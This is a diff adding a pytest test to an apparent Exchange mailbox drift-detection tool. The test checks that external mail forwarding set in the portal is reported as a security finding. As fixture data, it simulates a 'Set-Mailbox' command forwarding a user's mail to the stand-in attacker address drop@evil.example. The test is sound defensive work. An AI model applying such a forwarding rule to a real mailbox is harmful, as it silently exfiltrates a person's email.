@@ -60,9 +60,38 @@ def test_formats_and_out_file(drift_scenario: DriftScenario, tmp_path: Path) -> 
     assert json.loads(out)["summary"]["unmanaged"] == 1
     code, out, _ = _run(s, tmp_path, "--format", "markdown")
     assert code == 2 and out.startswith("### Drift report")
-    assert "| contoso | - | 0 | 0 | 0 | 1 |" in out
+    assert "| contoso | - | 0 | 0 | 0 | 0 | 1 |" in out
     target = tmp_path / "drift.json"
     code, out, err = _run(s, tmp_path, "--format", "json", "--out", str(target))
     assert code == 2 and out == ""
     assert json.loads(target.read_text())["drift"] is True
     assert "Wrote the drift report" in err
+
+
+def test_external_forwarding_outside_git_is_a_security_finding_managed_or_not(
+        drift_scenario: DriftScenario, tmp_path: Path) -> None:
+    s = _applied(drift_scenario)
+    code, _, _ = _run(s, tmp_path)
+    assert code == 0  # forwarding inside the customer's domains is no finding
+    # Set in the portal, on mailboxes whose YAML leaves forwarding unmanaged (or that are
+    # declared nowhere); one allowed by policy, one to an internal recipient.
+    s.live("Set-Mailbox", Identity="alice@contoso.com",
+           ForwardingSmtpAddress="smtp:drop@evil.example")
+    s.live("Set-Mailbox", Identity="support@contoso.com",
+           ForwardingSmtpAddress="smtp:desk@partner.example")
+    s.live("Set-Mailbox", Identity="bob@contoso.com", ForwardingAddress="alice@contoso.com")
+    s.policy("allowed_forwarding_domains: [partner.example]\n")
+    code, out, _ = _run(s, tmp_path)
+    assert code == 2, out
+    assert "[security finding] user_mailbox alice@contoso.com" in out
+    assert ("forwards mail to drop@evil.example, outside contoso.co.uk, contoso.com, "
+            "contoso.onmicrosoft.com, partner.example") in out
+    assert "desk@partner.example" not in out and "bob@contoso.com" not in out
+    code, out, _ = _run(s, tmp_path, "--format", "json")
+    [finding] = [i for i in json.loads(out)["items"] if i["class"] == "security_finding"]
+    assert finding["id"] == "alice@contoso.com"
+    assert finding["before"]["forwarding"]["to"] == "drop@evil.example"
+    code, out, _ = _run(s, tmp_path, "--format", "markdown")
+    assert code == 2 and "security finding" in out and "drop@evil.example" in out
+    code, out, _ = _run(s, tmp_path, "--format", "html")
+    assert code == 2 and "drop@evil.example" in out
